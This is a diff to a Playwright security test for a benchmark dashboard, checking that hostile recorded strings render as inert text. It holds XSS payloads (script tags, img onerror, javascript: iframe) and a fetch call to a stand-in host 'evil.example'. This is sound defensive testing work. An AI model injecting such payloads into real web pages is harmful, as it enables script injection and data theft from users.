@@ -12,7 +12,7 @@ import { join } from 'node:path';
 import type { Browser, Page } from 'playwright-core';
 import { DashboardData } from '../../src/dashboard/data.js';
 import { startDashboard, type DashboardServer } from '../../src/dashboard/server.js';
-import { makeResults, RUN_A, RUN_B, RUN_EVIL, SWEEP_ID } from './setup.js';
+import { makeHostileResults, makeResults, RUN_A, RUN_B, RUN_EVIL, RUN_EVIL2, SWEEP_ID } from './setup.js';
 import { startScriptedServer, type ScriptedServer } from '../support/scripted-server.js';
 import { runCli } from '../support/cli.js';
 
@@ -188,27 +188,56 @@ test('a run page: tables, interactive charts, and a request record from the time
   await done(w, 'run-record');
 });
 
-test('hostile recorded strings run no script on any page', { skip: SKIP, timeout: 120_000 }, async () => {
-  const pages: Array<[string, string]> = [['/', 'evil-runs'], [`/runs/${RUN_EVIL}`, 'evil-run'], [`/compare?ids=${RUN_EVIL},${RUN_A}`, 'evil-compare'], [`/sweeps/${SWEEP_ID}`, 'evil-sweep']];
-  for (const [path, shot] of pages) {
-    const w = await open(path);
-    const { page } = w;
-    const info = await page.evaluate(() => ({
-      scripts: [...document.querySelectorAll('script')].filter((s) => !(s as HTMLScriptElement).src && s.type !== 'application/json').length,
-      imgs: document.querySelectorAll('img, iframe, object, embed').length,
-      text: document.body.innerText,
-    }));
-    assert.equal(info.scripts, 0, path);
-    assert.equal(info.imgs, 0, path);
-    if (path === `/runs/${RUN_EVIL}`) {
-      assert.equal(await page.title(), 'Run <script>alert("name")</script> · llmbench dashboard');
-      await page.click('button.open-record[data-record="0"]');
-      await page.waitForSelector('#record-panel:not([hidden])');
-      assert.equal(await page.textContent('#record-panel pre.record-output'), '</textarea><script>fetch("http://evil.example/x")</script> "quotes" & \'apos\' <!-- -->');
+test('hostile recorded strings run no script on any page', { skip: SKIP, timeout: 180_000 }, async () => {
+  const { root: evilRoot } = makeHostileResults();
+  const evilDash = await startDashboard({ data: new DashboardData({ dbPath: null, resultDirs: [evilRoot] }), host: '127.0.0.1', port: 0, token: null });
+  const saved = dash;
+  dash = evilDash;
+  try {
+    const id2 = encodeURIComponent(RUN_EVIL2);
+    const pages: Array<[string, string]> = [['/', 'evil-runs'], [`/runs/${RUN_EVIL}`, 'evil-run'], [`/runs/${id2}`, 'evil-run2'], [`/compare?ids=${RUN_EVIL},${id2}`, 'evil-compare'], [`/sweeps/${SWEEP_ID}`, 'evil-sweep']];
+    for (const [path, shot] of pages) {
+      const w = await open(path);
+      const { page } = w;
+      const info = await page.evaluate(() => ({
+        scripts: [...document.querySelectorAll('script')].filter((s) => !(s as HTMLScriptElement).src && s.type !== 'application/json').length,
+        srcs: [...document.querySelectorAll('script[src]')].map((s) => new URL((s as HTMLScriptElement).src).pathname),
+        imgs: document.querySelectorAll('img, iframe, object, embed, svg [onload], [onerror]').length,
+        text: document.body.innerText,
+      }));
+      assert.equal(info.scripts, 0, path);
+      assert.deepEqual(info.srcs, ['/static/vega.min.js', '/static/vega-lite.min.js', '/static/dashboard.js'], path);
+      assert.equal(info.imgs, 0, path);
+      if (path === `/runs/${RUN_EVIL}`) {
+        assert.equal(await page.title(), 'Run <script>alert("name")</script> · llmbench dashboard');
+        await page.click('button.open-record[data-record="0"]');
+        await page.waitForSelector('#record-panel:not([hidden])');
+        assert.equal(await page.textContent('#record-panel pre.record-output'), '</textarea><script>fetch("http://evil.example/x")</script> "quotes" & \'apos\' <!-- -->');
+      }
+      if (path === `/runs/${id2}`) {
+        assert.ok(info.text.includes('<script>alert(7)</script>'));
+        assert.ok(info.text.includes('</pre><script>alert(11)</script>'));
+        await page.click('button.open-record[data-record="1"]');
+        await page.waitForSelector('#record-panel:not([hidden])');
+        assert.equal(await page.textContent('#record-panel pre.record-error'), 'http (HTTP 500): <img src=x onerror=alert(14)>');
+        assert.equal(await page.textContent('#record-panel pre.record-output'), '</script><script>alert(12)</script>\u2028<iframe src="javascript:alert(13)">');
+        assert.deepEqual((await chartsDrawn(page)).filter((c) => c.state !== undefined).map((c) => c.state), ['true', 'true', 'true', 'true', 'true'], String(await page.$$eval('figure.chart .absent', (e) => e.map((x) => x.textContent).join(' / '))));
+      }
+      if (path === '/') {
+        assert.ok(info.text.includes('m</textarea><img src=x onerror=alert(1)>"\'&'));
+        assert.ok(info.text.includes('</script><script>alert(5)</script>'));
+        await page.click(`tbody.run[data-id="${RUN_EVIL2.replace(/"/g, '\\"')}"] button.expand`);
+        assert.ok((await page.textContent('table.runs'))!.includes('<img src=x onerror=alert(6)>'));
+      }
+      if (path.startsWith('/sweeps')) {
+        assert.ok(info.text.includes('CUDA out of memory <script>alert("sweep")</script>'));
+        assert.ok(info.text.includes('<script>alert(15)</script>="><img src=x onerror=alert(16)>'));
+      }
+      await done(w, shot);
     }
-    if (path === '/') assert.ok(info.text.includes('m</textarea><img src=x onerror=alert(1)>"\'&'));
-    if (path.startsWith('/sweeps')) assert.ok(info.text.includes('CUDA out of memory <script>alert("sweep")</script>'));
-    await done(w, shot);
+  } finally {
+    dash = saved;
+    await evilDash.close();
   }
 });
 
